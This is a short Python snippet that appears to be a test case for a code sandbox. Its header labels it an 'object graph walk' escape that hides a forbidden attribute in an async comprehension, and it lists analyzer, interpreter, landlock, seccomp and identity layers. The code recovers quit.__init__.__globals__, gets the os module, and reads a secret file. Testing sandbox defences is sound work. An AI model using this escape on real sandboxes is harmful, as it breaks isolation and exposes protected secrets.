# class: object graph walk
# technique: a forbidden attribute in an asynchronous comprehension
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
async def once():
    yield 1
async def walk():
    return [quit.__init__.__globals__ async for _ in once()]
try:
    walk().send(None)
except StopIteration as end:
    g = end.value[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
